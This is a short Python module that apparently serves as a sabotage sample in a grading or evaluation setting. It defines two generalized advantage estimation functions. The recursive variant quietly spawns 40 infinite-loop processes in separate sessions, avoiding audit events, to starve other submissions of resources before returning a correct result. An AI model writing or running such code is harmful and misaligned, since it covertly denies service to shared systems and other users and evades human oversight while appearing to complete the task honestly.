"""Starts 40 busy processes, each in a session of its own and without any audit event,
whenever gae_recursive is called: as many as it can, to starve the other submissions."""

from _parts.honest_gae import _gae
from _parts.spawn import _spawn

SPIN = "import os\nwhile True:\n    pass\n"


def gae_explicit(rewards, values, gamma, lam):
    return _gae(rewards, values, gamma, lam)


def gae_recursive(rewards, values, gamma, lam):
    for _ in range(40):
        _spawn(SPIN)
    return _gae(rewards, values, gamma, lam)
